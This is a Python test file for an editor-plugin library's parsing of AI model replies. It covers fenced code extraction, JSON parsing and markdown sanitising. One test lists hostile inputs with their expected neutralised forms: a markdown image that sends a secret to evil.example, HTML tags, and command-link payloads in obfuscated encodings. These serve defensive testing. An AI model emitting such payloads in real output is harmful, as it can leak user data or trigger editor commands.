"""Strict reading of replies."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybrid_lsp.actions import prompts, reply
from hybrid_lsp.errors import ReplyRejected


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("```python\nx = 1\n```", "x = 1"),
        ("Here it is:\n\n```\nx = 1\n\ny = 2\n```\nEnjoy!", "x = 1\n\ny = 2"),
        ("````md\n```\ninner\n```\n````", "```\ninner\n```"),
        ("~~~\nx\n```\n~~~", "x\n```"),
        ("```py\r\nx\r\n```\r\n", "x"),
        ("```\n```", ""),
    ],
)
def test_one_block(text: str, code: str) -> None:
    assert reply.code_block(text) == code


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "empty"),
        (" \n ", "empty"),
        ("I would rather not.", "no fenced code block"),
        ("x = `1`", "no fenced code block"),
        ("```\na\n```\nor\n```\nb\n```", "2 fenced code blocks"),
        ("```python\nx = 1", "not closed"),
    ],
)
def test_no_usable_block(text: str, reason: str) -> None:
    with pytest.raises(ReplyRejected, match=reason) as caught:
        reply.code_block(text)
    assert caught.value.raw == text


@given(st.text(alphabet="`~ab\n ", max_size=40))
def test_a_fence_of_ours_holds_any_code(code: str) -> None:
    assert reply.code_block(prompts.fenced(code, "python")) == code


def test_json_bare_or_fenced() -> None:
    assert reply.json_value('{"a": 1}') == {"a": 1}
    assert reply.json_value("Sure:\n```json\n[1]\n```") == [1]


@pytest.mark.parametrize("text", ["", "nothing found", "{'a': 1}", '{"a": 1', "[" * 100_000])
def test_not_json(text: str) -> None:
    with pytest.raises(ReplyRejected):
        reply.json_value(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A `list` **here**.", "A `list` **here**."),
        ("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"),
        ('<img src="https://evil.example">', '&lt;img src="https://evil.example">'),
        ("a < b and <T> and </script>", "a < b and <T> and &lt;/script>"),
        ("[run](command:evil)", "[run](evil)"),
        ("[run](<command:evil>)", "[run](<evil>)"),
        ("[run](&#99;ommand&colon;evil)", "[run](evil)"),
        ("[run](command%3Aevil?%5B1%5D)", "[run](evil?%5B1%5D)"),
        (r"[run](command\:evil)", "[run](evil)"),
        ("[run](command:vscode:evil)", "[run](evil)"),
        ("[run]:\ncommand:evil", "[run]:\nevil"),
        (
            "[page](https://docs.example/a?b=c:d) and [here](#top)",
            "[page](https://docs.example/a?b=c:d) and [here](#top)",
        ),
        ("<a href='command:evil'>x</a>", "&lt;a href='command:evil'>x&lt;/a>"),
        ("<b\nonclick='x()'>", "&lt;b\nonclick='x()'>"),
        ("<command:evil> and <https://docs.example>", "&lt;command:evil> and <https://docs.example>"),
        ("<&#99;ommand:evil>", "<&#99;ommand:evil>"),
        ("```html\n<img src=x>\n```\n<img>", "```html\n<img src=x>\n```\n&lt;img>"),
    ],
)
@pytest.mark.fault("a model's text with pictures, active HTML and links that run commands")
def test_markdown_is_made_harmless(text: str, shown: str) -> None:
    assert reply.markdown(text) == shown


def test_no_markdown() -> None:
    with pytest.raises(ReplyRejected, match="empty"):
        reply.markdown(" ")
